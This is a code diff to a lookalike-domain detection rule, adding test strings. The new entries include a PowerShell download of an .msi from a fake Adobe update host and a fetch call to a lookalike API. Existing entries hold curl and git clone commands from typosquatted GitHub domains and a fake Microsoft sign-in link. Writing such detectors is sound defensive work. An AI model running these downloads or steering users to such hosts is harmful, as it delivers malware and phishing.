@@ -36,10 +36,13 @@ export const lookalikeAddress: PassageRule = {
     matches: [
       "```bash\ncurl -o tool https://githvb.com/sample/tool\n```\n",
       { "load.py": 'import requests\nrequests.get("https://pypi.org.tables.example/simple")\n' },
+      { "load.ts": 'await fetch("https://api.notlon.example/v1/search", { method: "POST" });\n' },
+      { "load.ps1": "Invoke-WebRequest https://get.adobe-acrobat-update.example/a.msi -OutFile a.msi\n" },
       "Sign in at https://microsoft-login.example/ first.\n",
       "```bash\ngit clone https://g1thub.com/sample/tool\n```\n",
     ],
     ignores: [
+      "See https://github-copilot-tips.example/, https://docker-compose.example/ and https://stripe-press.example/.\n",
       "See https://www.google.com.au/, https://spec.openapis.org/ and https://slack-edge.com/a.png.\n",
       "```bash\ncurl -o tool https://github.com/sample/tool\npip install https://motion.dev/x.whl\n```\n",
     ],
